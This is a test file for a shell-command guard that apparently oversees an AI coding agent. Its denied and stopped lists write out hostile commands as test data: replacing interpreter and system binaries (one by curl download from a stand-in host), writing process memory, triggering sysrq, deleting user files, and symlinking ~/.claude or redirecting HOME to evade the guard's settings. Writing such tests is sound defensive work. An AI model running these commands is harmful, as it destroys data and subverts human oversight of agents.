import { HOME } from '../engine/world';
import { denied, free, stopped, write } from './selfRows';
import { guarded } from './selfWorld';

const NODE = `${HOME}/.nvm/versions/node/v20.1.0/bin/node`;
/** A machine on which set-up has found this Node for the launcher. */
const found = {
  ...guarded,
  files: { ...guarded.files, [`${HOME}/.mollyguard/state/setUp.json`]: JSON.stringify({ interpreters: ['/usr/share/code/code', NODE] }) },
};

denied(
  'the program that the launcher runs with is replaced',
  [
    `cp /tmp/fake ${NODE}`,
    `mv /tmp/fake ${NODE}`,
    `ln -sf /bin/true ${NODE}`,
    `rm ${NODE}`,
    `chmod -x ${NODE}`,
    `echo x > ${NODE}`,
    `curl -o ${NODE} https://x.example/y`,
    write(NODE, '#!/bin/sh\nexit 0\n'),
    `python3 -c "import shutil; shutil.copy('/tmp/fake', '${NODE}')"`,
  ],
  found,
);

stopped([
  'cp /tmp/fake ~/.volta/bin/node',
  'cp /tmp/fake ~/.local/bin/git',
  'ln -sf /bin/true ~/.local/bin/sudo',
  'cp /bin/true /usr/local/bin/node',
  'install -m755 x /usr/local/bin/ssh',
  'cp x ~/.vscode-server/cli/servers/Stable-1/server/node',
  write(`${HOME}/.local/bin/bash`, '#!/bin/sh\n'),
  'echo x > /proc/4242/mem',
  'dd if=x of=/proc/4242/mem seek=100',
  'echo b | sudo tee /proc/sysrq-trigger',
  `python3 -c "open('/proc/4242/mem','r+b').write(b'x')"`,
  `python3 -c "import os; fd=os.open('/proc/%d/mem'%4242, os.O_RDWR); os.write(fd,b'x')"`,
  'node -e "process._debugProcess(4242)"',
  `node -e 'process["_debug"+"Process"](+process.argv[1])' 4242`,
  `node -e "process.kill(4242,'SIGUSR1')"`,
  'python3 -c "import os,signal; os.kill(42, signal.SIGUSR1)"',
  'python3 -c "import ctypes; libc=ctypes.CDLL(None); libc.ptrace(16,4242,0,0)"',
  `python3 -c "import ctypes; ctypes.CDLL('libc.so.6').process_vm_writev(1)"`,
  `python3 -c "import ctypes; ctypes.CDLL(None).system(b'rm -rf ${HOME}/Documents')"`,
  `python3 -c "from ctypes import *; cdll.LoadLibrary('libc.so.6').unlink(b'${HOME}/notes.txt')"`,
  `python3 -c "import os,shutil; os.chdir('${HOME}'); shutil.rmtree('Documents')"`,
  `node -e "process.chdir('${HOME}'); require('fs').rmSync('Documents',{recursive:true})"`,
  `php -r "chdir('${HOME}'); unlink('notes.txt');"`,
]);

denied('another name, or another home, made in code', [
  `python3 -c "import os; os.symlink('${HOME}/.claude','x'); open('x/settings.json','w').write('{}')"`,
  `python3 -c "import os; os.symlink(os.path.expanduser('~')+'/.claude','x')"`,
  `python3 -c "from pathlib import Path; Path('x').symlink_to(Path.home()/'.claude')"`,
  `node -e "const fs=require('fs'); fs.symlinkSync('${HOME}/.claude','x'); fs.writeFileSync('x/settings.json','{}')"`,
  `php -r "symlink('${HOME}/.claude','x');"`,
  `python3 -c "import os,subprocess; os.environ['HOME']='/tmp/x'; subprocess.run(['claude','-p','hi'])"`,
  `python3 -c "import os,subprocess; os.environ.update({'CLAUDE_CONFIG_DIR':'/tmp/x'}); subprocess.run(['claude','-p','hi'])"`,
  `node -e "process.env.HOME='/tmp/x'; require('child_process').execSync('claude -p hi')"`,
]);

free([
  'cp build/tool ~/.local/bin/tool',
  'cp build/* ~/.local/bin/',
  'sudo install -m755 kubectl /usr/local/bin/kubectl',
  'ln -s ~/apps/x ~/.local/bin/x',
  `${NODE} script.js`,
  'nvm install 22',
  'cat /proc/4242/maps',
  'echo 3 | sudo tee /proc/sys/vm/drop_caches',
  'mkdir -p bin && cp x bin/node',
  `node -e "process.kill(process.pid,'SIGUSR1')"`,
  `node -e "process.kill(4242,'SIGTERM')"`,
  'python3 -c "import os,signal; os.kill(os.getpid(), signal.SIGUSR1)"',
  'python3 -c "import ctypes; print(ctypes.sizeof(ctypes.c_long))"',
  `python3 -c "import os; os.symlink('src','x'); open('x/a.ts','w').write('{}')"`,
  `node -e "require('fs').symlinkSync('src','x')"`,
  `python3 -c "import os,shutil; os.chdir('dist'); shutil.rmtree('x')"`,
  `python3 -c "import os; os.environ['DEBUG']='1'; os.system('npm test')"`,
  `python3 -c "f=open('a.txt','r+'); f.write('x')"`,
]);
